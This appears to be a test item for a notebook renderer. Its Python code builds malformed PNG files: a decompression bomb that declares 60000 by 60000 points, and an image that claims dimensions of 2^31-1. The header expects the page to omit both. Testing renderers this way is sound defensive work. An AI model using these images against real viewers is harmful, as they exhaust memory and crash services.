# /// attack
# tries = "displays a picture of 60000 x 60000 points in a few hundred kilobytes, and one of four gigabytes that says it is one point"
# held = "the page leaves both out"
# exit = ["completed"]
# points = 5
# says = ["image/png"]
# ///
# %%
import struct
import zlib

from IPython.display import Image, display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def picture(side, lines, declared=None):
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(1 + side // 8)) for _ in range(lines)) + packer.flush()
    head = struct.pack(">IIBBBBB", declared or side, declared or lines, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


display(Image(data=picture(60_000, 20_000, 60_000), format="png"))
display(Image(data=picture(8, 1, (1 << 31) - 1), format="png"))
